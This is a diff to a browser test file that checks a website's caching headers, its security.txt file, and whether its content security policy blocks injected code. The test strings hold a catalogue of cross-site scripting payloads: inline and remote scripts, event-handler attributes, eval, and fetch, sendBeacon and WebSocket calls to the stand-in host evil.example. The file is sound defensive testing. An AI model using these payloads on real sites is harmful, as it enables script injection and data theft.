@@ -3,6 +3,8 @@ import path from 'node:path'
 import { findLeaks } from '../scripts/leaks.mjs'
 import { expect, SITE_FOLDER, test } from './fixtures'
 
+const HASHED = 'public, max-age=86400, stale-while-revalidate=31536000'
+
 type Header = { key: string; value: string }
 const firebase = JSON.parse(readFileSync(path.resolve(import.meta.dirname, '../firebase.json'), 'utf8')) as {
   hosting: { headers: { source: string; headers: Header[] }[] }
@@ -29,11 +31,16 @@ test('the policy allows no more than the site needs', () => {
   expect(production).not.toMatch(/127\.0\.0\.1|localhost|unsafe-eval|http:/)
 })
 
-test('hashed files are cached for a year', async ({ baseURL }) => {
+test('hashed files are cached, missing ones for a day at most (decision 167)', async ({ baseURL }) => {
   const page = await fetch(`${baseURL}/`)
   expect(page.headers.get('cache-control')).toBe('no-cache')
   const asset = /src="(\/assets\/[^"]+\.js)"/.exec(await page.text())?.[1]
-  expect((await fetch(`${baseURL}${asset}`)).headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
+  expect((await fetch(`${baseURL}${asset}`)).headers.get('cache-control')).toBe(HASHED)
+  // A release that is rolled back brings names back that were missing in between.
+  const missing = await fetch(`${baseURL}/assets/gone-1a2b3c4d.js`)
+  expect(missing.status).toBe(404)
+  const age = /max-age=(\d+)/.exec(missing.headers.get('cache-control') ?? 'no-cache')?.[1] ?? '0'
+  expect(Number(age)).toBeLessThanOrEqual(86_400)
 })
 
 test('missing and internal pages are kept out of caches and search engines (decision 52)', async ({ baseURL }) => {
@@ -55,6 +62,12 @@ test('missing and internal pages are kept out of caches and search engines (deci
   expect((await fetch(`${baseURL}/about`)).headers.get('x-robots-tag'), 'the control').toBeNull()
 })
 
+test('security.txt says whom to tell about a weakness', async ({ baseURL }) => {
+  const answer = await fetch(`${baseURL}/.well-known/security.txt`)
+  expect(answer.status).toBe(200)
+  expect(await answer.text()).toMatch(/^Contact: .+\n(.+\n)*Expires: 20/)
+})
+
 test('the search for leaks finds the local addresses of the test build', () => {
   const found = findLeaks(SITE_FOLDER)
   for (const what of ['a local address', 'the local project'])
@@ -65,24 +78,40 @@ test('the search for leaks finds the local addresses of the test build', () => {
   console.info(`[figure] local addresses and projects found in the build for the tests: ${found.length}`)
 })
 
-test('an injected script does not run (P14)', async ({ page, baseURL, consoleGuard }) => {
-  consoleGuard.allow(/\/none\)|Content Security Policy|Refused to|ERR_BLOCKED|frame-ancestors|X-Frame-Options|violates/)
+test('injected markup and scripts do not run (P14)', async ({ page, baseURL, consoleGuard }) => {
+  consoleGuard.allow(/./)
+  const left: string[] = []
+  await page.route('**://evil.example/**', (route) => {
+    left.push(route.request().url())
+    return route.abort()
+  })
+  // The parser meets this markup, as if a stored text had been inserted unescaped.
+  await page.route('/', async (route) => {
+    const answer = await route.fetch()
+    await route.fulfill({ response: answer, body: (await answer.text()).replace('</body>', `${MARKUP}</body>`) })
+  })
   // The script comes from a page of the site, because page.evaluate ignores the content security policy.
-  await page.route('**/assets/hostile.js', (route) => route.fulfill({ contentType: 'text/javascript', body: HOSTILE }))
-  await page.goto('/')
-  await page.evaluate(() => {
-    const script = document.createElement('script')
-    script.src = '/assets/hostile.js'
-    document.body.append(script)
+  await page.route('**/assets/hostile.js', (route) => route.fulfill({ contentType: 'text/javascript', body: SCRIPT }))
+  await page.addInitScript(() => {
+    const found = { executed: [], reported: [] as string[], thrown: [] }
+    Object.assign(window, found)
+    document.addEventListener('securitypolicyviolation', (event) => found.reported.push(event.effectiveDirective))
   })
+  await page.goto('/', { waitUntil: 'commit' })
   await page.waitForFunction(() => 'done' in window)
-  const { executed, reported } = await page.evaluate(() => {
-    const { executed, reported } = window as unknown as { executed: string[]; reported: string[] }
-    return { executed, reported }
+  const { executed, reported, thrown } = await page.evaluate(() => {
+    const { executed, reported, thrown } = window as unknown as Record<string, string[]>
+    return { executed, reported, thrown }
   })
-  console.info(`[figure] hostile injections reported: ${reported.length}, executed: ${executed.length}`)
+  console.info(`[figure] hostile injections reported: ${reported?.length}, executed: ${executed?.length}`)
   expect(executed).toEqual([])
-  expect(reported.length).toBeGreaterThanOrEqual(12)
+  expect(reported?.length).toBeGreaterThanOrEqual(25)
+  expect(new Set(reported)).toContain('require-trusted-types-for')
+  // Every way from a text to running code or markup throws before it does anything.
+  expect(thrown).toEqual(Array.from({ length: 10 }, () => 'TypeError'))
+  // Administrators may link a picture of any host, so pictures leave (decision 166). Nothing else does.
+  expect(left.filter((url) => !url.includes('/picture'))).toEqual([])
+  expect(left.length, 'the control').toBeGreaterThan(0)
 
   await page.route('https://framer.example/', (route) =>
     route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe>` }),
@@ -91,32 +120,48 @@ test('an injected script does not run (P14)', async ({ page, baseURL, consoleGua
   await expect.poll(() => page.frames()[1]?.url() ?? '').not.toBe(`${baseURL}/`)
 })
 
-const HOSTILE = `
-window.executed = []; window.reported = []
-document.addEventListener('securitypolicyviolation', (event) => window.reported.push(event.effectiveDirective))
-const put = (html) => { const box = document.createElement('div'); box.innerHTML = html; document.body.append(box); return box }
-const script = (set) => { const element = document.createElement('script'); set(element); document.body.append(element) }
-script((s) => { s.textContent = "executed.push('inline')" })
-script((s) => { s.src = 'https://evil.example/a.js' })
-script((s) => { s.src = 'data:text/javascript,executed.push("data")' })
-script((s) => { s.src = URL.createObjectURL(new Blob(["executed.push('blob')"], { type: 'text/javascript' })) })
-script((s) => { s.type = 'module'; s.textContent = "executed.push('module')" })
-put('<img src="/none" onerror="executed.push(1)">')
-put('<svg onload="executed.push(2)"></svg>')
-put('<a href="javascript:executed.push(3)">x</a>').firstChild.click()
-put('<iframe src="https://evil.example/"></iframe>')
-put('<iframe srcdoc="<script>parent.executed.push(4)</scr' + 'ipt>"></iframe>')
-put('<object data="https://evil.example/"></object>')
-put('<embed src="https://evil.example/">')
-put('<base href="https://evil.example/">')
-put('<form action="https://evil.example/"><button></button></form>').querySelector('form').submit()
-put('<link rel="stylesheet" href="https://evil.example/a.css">')
-put('<audio src="http://evil.example/a.mp3" autoplay></audio>')
-try { eval("executed.push('eval')") } catch {}
-try { new Function("executed.push('function')")() } catch {}
-try { setTimeout("executed.push('timeout')") } catch {}
-try { new Worker('https://evil.example/w.js') } catch {}
-try { new Worker(URL.createObjectURL(new Blob(["1"]))) } catch {}
+const MARKUP = `
+<script>executed.push('inline')</script>
+<script src="https://evil.example/a.js"></script>
+<script src="data:text/javascript,executed.push('data')"></script>
+<script type="module">executed.push('module')</script>
+<img src="/none" onerror="executed.push('error')">
+<svg onload="executed.push('load')"></svg>
+<a id="link" href="javascript:executed.push('link')">x</a>
+<iframe src="https://evil.example/"></iframe>
+<iframe srcdoc="<script>parent.executed.push('frame')</script>"></iframe>
+<object data="https://evil.example/"></object>
+<embed src="https://evil.example/">
+<base href="https://evil.example/">
+<form id="form" action="https://evil.example/"></form>
+<link rel="stylesheet" href="https://evil.example/a.css">
+<link rel="preload" as="font" crossorigin href="https://evil.example/b.woff2">
+<style>
+  @import 'https://evil.example/c.css';
+  @font-face { font-family: evil; src: url('https://evil.example/d.woff2'); unicode-range: U+0-10FFFF }
+  #link { font-family: evil }
+  #form { background: url('https://evil.example/picture.png') }
+  body::after { content: url('https://evil.example/picture.svg'); filter: url('https://evil.example/e.svg#x') }
+</style>
+<audio src="http://evil.example/a.mp3" autoplay></audio>
+<script src="/assets/hostile.js" type="module"></script>
+`
+
+const SCRIPT = `
+const attempt = (run) => { try { run() } catch (error) { thrown.push(error instanceof EvalError ? 'TypeError' : error.name) } }
+const element = (name) => document.createElement(name)
+document.querySelector('#link').click()
+document.querySelector('#form').submit()
+attempt(() => { element('div').innerHTML = '<img src="/none" onerror="executed.push(1)">' })
+attempt(() => { document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="executed.push(2)">') })
+attempt(() => { element('script').textContent = 'executed.push(3)' })
+attempt(() => { element('script').src = 'https://evil.example/a.js' })
+attempt(() => { element('iframe').srcdoc = '<p>x</p>' })
+attempt(() => { eval('executed.push(4)') })
+attempt(() => { new Function('executed.push(5)')() })
+attempt(() => { setTimeout('executed.push(6)') })
+attempt(() => { new Worker('https://evil.example/w.js') })
+attempt(() => { trustedTypes.createPolicy('evil', {}) })
 fetch('https://evil.example/').catch(() => {})
 try { new WebSocket('wss://evil.example/') } catch {}
 navigator.sendBeacon('https://evil.example/', 'x')
